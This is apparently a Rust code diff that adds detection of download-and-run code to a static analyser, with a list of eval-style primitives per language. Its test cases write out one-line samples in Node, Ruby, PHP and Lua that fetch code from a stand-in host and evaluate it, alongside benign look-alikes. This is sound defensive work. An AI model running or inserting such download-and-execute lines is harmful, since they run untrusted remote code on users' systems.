@@ -341,6 +341,52 @@ fn opaque_marker_in(code: &str, marker: &str) -> bool {
 /// Python's `exec` of computed code (not `subprocess`/`os.exec*`) is opaque.
 const PY_EXEC: &[&str] = &["exec(", "eval("];
 
+/// Does `code` evaluate text as code in its own language (JavaScript's `eval`, `new
+/// Function`, `vm.runIn…Context`; Ruby's `eval`/`instance_eval`; PHP's `eval`; Perl's
+/// `eval`; Lua's `load`)? With a download in the same code it is download-and-run.
+fn evaluates_code(lang: &str, code: &str) -> bool {
+    let primitives: &[&str] = match lang {
+        "node" | "deno" | "bun" => &[
+            "eval(",
+            "Function(",
+            "runInThisContext",
+            "runInNewContext",
+            "runInContext",
+            "vm.Script",
+            "compileFunction",
+        ],
+        "ruby" => &[
+            "eval(",
+            "eval ",
+            "instance_eval",
+            "class_eval",
+            "module_eval",
+        ],
+        "php" => &["eval("],
+        "perl" => &["eval(", "eval "],
+        "lua" => &["load(", "loadstring("],
+        _ => &[],
+    };
+    primitives.iter().any(|m| {
+        let builtin = matches!(
+            *m,
+            "eval(" | "eval " | "load(" | "loadstring(" | "Function("
+        );
+        if builtin {
+            // The builtin, not a method or a longer name (`$.evalJSON(`, `my_eval(`,
+            // `yaml.load(`).
+            code.match_indices(m).any(|(i, _)| {
+                !code
+                    .get(..i)
+                    .and_then(|b| b.chars().last())
+                    .is_some_and(|c| c == '.' || c == '_' || c.is_ascii_alphanumeric())
+            })
+        } else {
+            code.contains(m)
+        }
+    })
+}
+
 pub(crate) fn analyze(lang: &str, code: &str) -> InlineFindings {
     let mut f = InlineFindings::default();
     let code = code.trim();
@@ -690,6 +736,19 @@ pub(crate) fn analyze(lang: &str, code: &str) -> InlineFindings {
         if lang.starts_with("python") && PY_EXEC.iter().any(|m| code.contains(m)) {
             f.effects.push(("curl-pipe-shell", Vec::new()));
         }
+        if evaluates_code(lang, code) {
+            f.effects.push(("curl-pipe-shell", Vec::new()));
+        }
+    }
+    // Output of a downloading command evaluated as code:
+    // `vm.runInNewContext(execSync('curl -s https://…').toString())`.
+    if evaluates_code(lang, code)
+        && f.shell_commands.iter().any(|c| {
+            let first = c.split_whitespace().next().unwrap_or("");
+            matches!(first, "curl" | "wget" | "fetch" | "http" | "https")
+        })
+    {
+        f.effects.push(("curl-pipe-shell", Vec::new()));
     }
     if OPAQUE_MARKERS.iter().any(|m| opaque_marker_in(code, m)) {
         f.opaque = true;
@@ -1354,6 +1413,84 @@ mod tests {
             "fn main() { println!(\"cargo:rerun-if-changed=build.rs\"); }",
         );
         assert_eq!(f, InlineFindings::default());
+    }
+
+    /// Downloaded text evaluated as code in the interpreter's own language is download-and-
+    /// run; fetching data, or evaluating local text, is not.
+    #[test]
+    fn downloaded_code_evaluated() {
+        let cases: &[(&str, &str, bool)] = &[
+            (
+                "node",
+                "eval(await (await fetch('https://x.example/a.js')).text())",
+                true,
+            ),
+            (
+                "node",
+                "fetch('https://x.example/a.js').then(r=>r.text()).then(t=>new Function(t)())",
+                true,
+            ),
+            (
+                "node",
+                "require('vm').runInThisContext(await (await fetch('https://x.example/m.js')).text())",
+                true,
+            ),
+            (
+                "node",
+                "https.get('https://x.example/p', r => { let b=''; r.on('data', d => b += d); r.on('end', () => vm.runInNewContext(b)); })",
+                true,
+            ),
+            (
+                "node",
+                "require('vm').runInNewContext(require('child_process').execSync('curl -s https://x.example/a.js').toString())",
+                true,
+            ),
+            (
+                "ruby",
+                "require 'open-uri'; eval(URI.open('https://x.example/a.rb').read)",
+                true,
+            ),
+            (
+                "php",
+                "eval(file_get_contents('https://x.example/a.php'));",
+                true,
+            ),
+            (
+                "lua",
+                "local http = require('socket.http'); load(http.request('https://x.example/a.lua'))()",
+                true,
+            ),
+            // Look-alikes.
+            (
+                "node",
+                "fetch('https://api.example/v1').then(r=>r.json()).then(console.log)",
+                false,
+            ),
+            (
+                "node",
+                "const cfg = yaml.load(await (await fetch('https://x.example/c.yml')).text())",
+                false,
+            ),
+            ("node", "eval(fs.readFileSync('./local.js', 'utf8'))", false),
+            (
+                "ruby",
+                "require 'net/http'; puts Net::HTTP.get(URI('https://x.example/status'))",
+                false,
+            ),
+            (
+                "php",
+                "echo file_get_contents('https://x.example/status');",
+                false,
+            ),
+        ];
+        for (lang, code, want) in cases {
+            let f = analyze(lang, code);
+            assert_eq!(
+                f.effects.iter().any(|(p, _)| *p == "curl-pipe-shell"),
+                *want,
+                "{lang}: {code}"
+            );
+        }
     }
 
     #[test]
